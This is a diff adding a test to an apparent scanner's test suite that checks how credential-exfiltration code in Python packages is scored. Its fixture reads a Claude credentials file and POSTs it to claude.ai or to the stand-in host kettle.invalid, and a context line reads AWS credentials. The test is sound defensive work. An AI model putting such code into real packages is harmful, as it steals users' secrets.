@@ -970,3 +970,21 @@ test('a question or a pattern that speaks of credentials is no file of them', as
     await inspect('exfiltration', file("quote_plus(open(f'/home/{house}/.aws/credentials').read())")),
   ).toMatchObject([{ score: 6 }]);
 });
+
+test('a hidden log-in in a folder of the house that it goes to is its own business, to another house it is not', async () => {
+  const to = (host: string): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/__init__.py': python(
+          'import os, requests',
+          'def refresh():',
+          "    kept = open(os.path.expanduser('~/.claude/.credentials.json')).read()",
+          `    return requests.post('https://${host}/token', data=kept).json()`,
+        ),
+      }),
+    );
+
+  expect(await to('claude.ai')).toMatchObject([{ score: 2 }]);
+  expect(await to('kettle.invalid')).toMatchObject([{ score: 6 }]);
+});
